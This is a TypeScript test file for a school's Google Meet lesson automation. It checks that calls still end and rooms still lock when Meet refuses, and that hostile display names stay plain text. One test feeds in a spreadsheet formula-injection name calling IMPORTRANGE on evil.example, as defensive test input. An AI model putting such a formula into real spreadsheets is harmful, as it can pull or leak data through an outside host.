// Bad input and faults in the call (R10, R21, R22, R28), end to end through the shipped bundle:
// Meet refusing to end a call (429), a call that changes while the automation reads it, and
// display names of 20,000 characters, with newlines, or a formula. None may leave a link live,
// pupils alone longer than the settings allow (within a minute), or a log row missing.

import { type DeployedSchool, MIN, monday } from './deployed-school';
import { callsOf, hms, letIn, linkLiveAt, mailAbout, postLives, storedLesson } from './in-call-kit';
import { admit, flagCodes, lessonWithClass } from './scenario-kit';

const SEC = 1000;

/** Who may still start or join the room's call from Meet (CREATOR_APP_ONLY once locked). */
const entryPointAccess = (ws: DeployedSchool['ws'], link: string) =>
  (ws.meet.spaceInfo(link).config as { entryPointAccess?: string }).entryPointAccess;
const LOOK = MIN;

describe('in the call: faults and bad input', () => {
  it('tries the end again within the run when Meet answers 429, so the call still ends within a minute', () => {
    const { school, s, link, ws } = lessonWithClass();
    ws.kernel.faults.inject({ match: 'meet.spaces.endActiveConference', kind: 429, times: 2 });
    school.advanceTo(monday(10, 5) + 5 * SEC);
    const admittedAt = ws.now();
    admit(school, s, link, [school.school.outsider.email]);
    school.advance(2 * MIN);

    const [call] = callsOf(school, link);
    expect(call!.end! - admittedAt).toBeLessThanOrEqual(LOOK);
    expect(ws.kernel.faults.injected.filter((f) => f.kind === 429)).toHaveLength(2);
    expect(mailAbout(school, school.school.slt.email, /^Call NOT ended/)).toHaveLength(0);
  });

  it('tells SLT once when Meet still refuses to end the call after the run’s tries, and ends it at a later try', () => {
    const { school, s, link, ws } = lessonWithClass();
    // The run tries three times, the second and third asking twice: five refusals in all.
    ws.kernel.faults.inject({ match: 'meet.spaces.endActiveConference', kind: 429, times: 6 });
    school.advanceTo(monday(10, 5) + 5 * SEC);
    const admittedAt = ws.now();
    admit(school, s, link, [school.school.outsider.email]);
    school.advance(4 * MIN);

    // The link came down at once; the call ended at the next run.
    expect(postLives(school, s.course.id)[0]!.deleted! - admittedAt).toBeLessThanOrEqual(LOOK);
    const [call] = callsOf(school, link);
    expect(call!.end).not.toBeNull();
    expect(call!.end! - admittedAt).toBeLessThanOrEqual(2 * LOOK);
    const told = mailAbout(school, school.school.slt.email, /^Call NOT ended: Phonics/);
    expect(told).toHaveLength(1);
    expect(told[0]!.body).toMatch(/Google Meet refused 3 time\(s\)/);
    expect(told[0]!.at - admittedAt).toBeLessThanOrEqual(LOOK);

    school.advanceTo(monday(10, 40));
    const row = school.sessionRow(s.lessonId)!;
    expect(row.Status).toBe('closed');
    expect(flagCodes(row)).toEqual(
      expect.arrayContaining(['call-not-ended', 'ended-for-safety', 'external-participant']),
    );
    expect(String(row.Flags)).toMatch(
      /call-not-ended: The automation's requests to end the call failed \d+ time\(s\); SLT were told at 10:0\d/,
    );
    console.log(
      `end refused: outsider ${hms(admittedAt)}; SLT told ${hms(told[0]!.at)}; call ended ${hms(call!.end)}`,
    );
  });

  it('ends the call on time when Meet will not lock the room, says so truthfully, and still closes and logs the lesson with the room flagged as left unlocked', () => {
    const { school, s, link, ws } = lessonWithClass();
    school.advanceTo(monday(10, 30));
    ws.kernel.faults.inject({ match: 'meet.spaces.patch', kind: 500 });
    school.advanceTo(monday(10, 45));

    // The call ended at the end plus the grace; only the lock is refused.
    const [call] = callsOf(school, link);
    expect(call!.end).not.toBeNull();
    expect(call!.end!).toBeLessThanOrEqual(monday(10, 33));
    expect(entryPointAccess(ws, link)).not.toBe('CREATOR_APP_ONLY');
    // SLT and the teacher hear that the room is not locked, once, and not that the call runs on.
    expect(mailAbout(school, school.school.slt.email, /^Call NOT ended/)).toHaveLength(0);
    const told = mailAbout(school, school.school.slt.email, /^Room NOT locked: Phonics/);
    expect(told).toHaveLength(1);
    expect(told[0]!.body).toMatch(
      /was ended for everyone, but Google Meet refused 3 time\(s\) to lock its room/,
    );
    expect(mailAbout(school, s.course.teacher.email, /^Room NOT locked/)).toHaveLength(1);
    // The lesson does not wait for ever on the lock: it closes, flagged, with its attendance.
    const row = school.sessionRow(s.lessonId)!;
    expect(row.Status).toBe('closed');
    expect(flagCodes(row)).toEqual(expect.arrayContaining(['room-not-locked']));
    expect(flagCodes(row)).not.toContain('call-not-ended');
    expect(String(row.Flags)).toMatch(
      /Meet refused to lock the room 15 time\(s\), and it was left unlocked/,
    );
    expect(school.attendance(s.lessonId).length).toBeGreaterThan(0);
  });

  it('locks the room at a later try when Meet refuses the lock a few times, without closing the lesson unlocked', () => {
    const { school, s, link, ws } = lessonWithClass();
    school.advanceTo(monday(10, 30));
    ws.kernel.faults.inject({ match: 'meet.spaces.patch', kind: 503, times: 4 });
    school.advanceTo(monday(10, 45));

    expect(entryPointAccess(ws, link)).toBe('CREATOR_APP_ONLY');
    expect(mailAbout(school, school.school.slt.email, /^Call NOT ended/)).toHaveLength(0);
    const row = school.sessionRow(s.lessonId)!;
    expect(row.Status).toBe('closed');
    // Told once after the run's three tries; the log says how many failed and when it was locked.
    expect(mailAbout(school, school.school.slt.email, /^Room NOT locked/)).toHaveLength(1);
    expect(flagCodes(row)).toEqual(expect.arrayContaining(['room-not-locked']));
    expect(String(row.Flags)).toMatch(
      /Meet refused to lock the room 4 time\(s\); it was locked at 10:3\d/,
    );
  });

  it('keeps its head when the call changes while the automation is reading it', () => {
    const { school, s, link, ws } = lessonWithClass();
    const teacher = s.course.teacher.email;
    const assistant = s.course.assistant.email;
    school.advanceTo(monday(10, 5) + 30 * SEC);
    ws.meet.leave(assistant, link);
    // The teacher leaves in the middle of a look at the call, and comes back in the middle of
    // the look two minutes later: each read sees a call that is already different.
    school.advanceTo(monday(10, 8));
    ws.kernel.duringCall('meet.conferenceRecords.participants.list', () =>
      ws.meet.leave(teacher, link),
    );
    const breaches: string[] = [];
    let leftAt = 0;
    school.advance(MIN, () => {
      leftAt ||= ws.now();
    });
    school.advance(MIN);
    ws.kernel.duringCall('meet.conferenceRecords.participants.list', () => {
      ws.meet.join(teacher, link);
    });
    school.advance(MIN);
    school.advance(monday(10, 40) - ws.now(), () => {
      // Whatever the reads saw, no link stayed up past a minute beyond the limit while alone.
      const alone = !ws.meet.participantsNow(link).includes(teacher);
      if (alone && ws.now() - leftAt > 60 * SEC + LOOK && linkLiveAt(school, s.course.id, ws.now()))
        breaches.push(hms(ws.now()));
    });
    expect(breaches).toEqual([]);
    const lesson = storedLesson(school, s.lessonId);
    expect(lesson.status).toBe('closed');
    const row = school.sessionRow(s.lessonId)!;
    expect(row.Status).toBe('closed');
    expect(flagCodes(row)).toContain('staff-absent');
    expect(postLives(school, s.course.id).every((p) => p.deleted !== null)).toBe(true);
  });

  it('keeps display names of 20,000 characters, with newlines or a formula, as cut plain text everywhere', () => {
    const { school, s, link, ws } = lessonWithClass({ outsiderAction: 'alert' });
    const long = 'A'.repeat(20_000);
    const formula = '=IMPORTRANGE("https://evil.example/sheet","A1:Z99")';
    school.advanceTo(monday(10, 5));
    for (const name of [long, 'Line one\nLine two\r\n\tthree', formula])
      letIn(school, s.course.teacher.email, link, { anonymous: name });
    school.advance(2 * MIN);

    // The lesson record stays one small script property (9 KB at most).
    const record = ws.properties.scriptStore()[`lesson:${s.lessonId}`]!;
    expect(record.length).toBeLessThan(9 * 1024);
    const told = mailAbout(school, s.course.teacher.email, /^Action needed in Phonics/)[0]!.body;
    expect(told).toContain('… (name cut from 20000 characters)');
    expect(told).toContain('"Line one Line two three"');
    expect(told).not.toContain('A'.repeat(100));

    school.advanceTo(monday(10, 40));
    const row = school.sessionRow(s.lessonId)!;
    expect(row.Status).toBe('closed');
    const names = school
      .attendance(s.lessonId)
      .filter((a) => a.Role === 'anonymous')
      .map((a) => String(a.Name));
    expect(names).toHaveLength(3);
    expect(names).toContain(formula);
    expect(names).toContain('Line one Line two three');
    expect(names.find((n) => n.startsWith('AAAA'))!.length).toBeLessThan(200);
    expect(ws.sheets.formulaCells(school.logId)).toEqual([]);
    expect(Object.values(ws.properties.scriptStore()).every((v) => v.length < 9 * 1024)).toBe(true);
  });
});
